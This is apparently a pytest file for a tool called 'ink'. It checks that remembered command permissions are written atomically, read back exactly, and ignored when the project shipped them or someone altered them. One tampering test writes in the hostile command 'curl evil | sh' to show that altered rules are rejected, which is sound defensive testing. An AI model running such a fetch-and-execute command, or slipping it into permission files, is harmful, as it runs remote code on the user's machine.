"""``.ink/permissions.toml``: written atomically, read back exactly, and trusted only as ink wrote it."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import pytest

from ink.config.rules import parse_rule
from ink.permissions import PermissionMemory, RuleSet
from ink.permissions.policy import PermissionPolicy
from ink.permissions.rules import escape
from tests.permissions.helpers import builtin_tools


@pytest.fixture
def project(tmp_path: Path) -> Path:
    work = tmp_path / "proj"
    work.mkdir()
    return work


def memory(project: Path, tmp_path: Path) -> PermissionMemory:
    return PermissionMemory(project, tmp_path / "inkhome")


def test_rules_are_merged_written_and_read_back(project: Path, tmp_path: Path) -> None:
    mem = memory(project, tmp_path)
    assert mem.load() == ([], None)
    mem.add(["bash(npm test)"])
    mem.add(["edit(./notes.md)", "bash(npm test)"])  # already there: not twice
    rules, warning = memory(project, tmp_path).load()  # a new reader, as in the next process
    assert warning is None
    assert [(r.effect, r.text) for r in rules] == [("allow", "bash(npm test)"), ("allow", "edit(./notes.md)")]
    text = (project / ".ink" / "permissions.toml").read_text()
    assert text.startswith("# Written by ink") and "[permissions]\nallow = [\n" in text
    assert sorted(p.name for p in (project / ".ink").iterdir()) == ["permissions.toml"]  # no temp files
    trust = json.loads((tmp_path / "inkhome" / "trusted-permissions.json").read_text())
    assert list(trust) == [str((project / ".ink" / "permissions.toml").resolve())]
    assert (tmp_path / "inkhome" / "trusted-permissions.json").stat().st_mode & 0o077 == 0


def test_any_command_round_trips_and_matches_only_itself(project: Path, tmp_path: Path) -> None:
    command = 'printf "%s\\n" "a*b" \'c\\d\' && echo $(date) \x7f ü\n  | tee "x y" # done'
    rule = f"bash({escape(command)})"
    memory(project, tmp_path).add([rule])
    [loaded], _ = memory(project, tmp_path).load()
    assert loaded.text == rule
    policy = PermissionPolicy("ask", RuleSet([loaded]), project, builtin_tools(project))
    assert policy.check("bash", {"command": command}).kind == "allow"
    assert policy.check("bash", {"command": command.replace("a*b", "aXXb")}).kind == "ask"


def test_a_file_that_came_with_the_project_is_ignored(project: Path, tmp_path: Path) -> None:
    (project / ".ink").mkdir()
    shipped = project / ".ink" / "permissions.toml"
    shipped.write_text('[permissions]\nallow = ["bash"]\n')
    rules, warning = memory(project, tmp_path).load()
    assert rules == [] and warning is not None
    assert "ignoring remembered permissions that ink did not write" in warning and str(shipped) in warning


def test_a_file_changed_after_ink_wrote_it_is_ignored_until_ink_writes_it_again(
    project: Path, tmp_path: Path
) -> None:
    mem = memory(project, tmp_path)
    mem.add(["bash(npm test)"])
    path = project / ".ink" / "permissions.toml"
    path.write_text(path.read_text().replace("npm test", "curl evil | sh"))
    rules, warning = mem.load()
    assert rules == [] and warning is not None
    mem.add(["bash(make)"])  # the untrusted content is not carried over
    rules, warning = mem.load()
    assert [r.text for r in rules] == ["bash(make)"] and warning is None


def test_a_malformed_trusted_file_is_ignored_with_a_warning(project: Path, tmp_path: Path) -> None:
    mem = memory(project, tmp_path)
    mem.add(["bash(ls)"])
    path = project / ".ink" / "permissions.toml"
    path.write_text('[permissions]\nallow = ["bash("]\n')
    trust = tmp_path / "inkhome" / "trusted-permissions.json"  # as if ink had written this version
    trust.write_text(json.dumps({str(path.resolve()): hashlib.sha256(path.read_bytes()).hexdigest()}))
    rules, warning = mem.load()
    assert rules == [] and warning is not None and "not of the form" in warning


def test_a_rule_is_checked_before_it_is_written(project: Path, tmp_path: Path) -> None:
    with pytest.raises(Exception, match="not of the form"):
        memory(project, tmp_path).add(["bash("])
    assert not (project / ".ink" / "permissions.toml").exists()
    assert parse_rule("allow", "bash(ls)", "x").text == "bash(ls)"
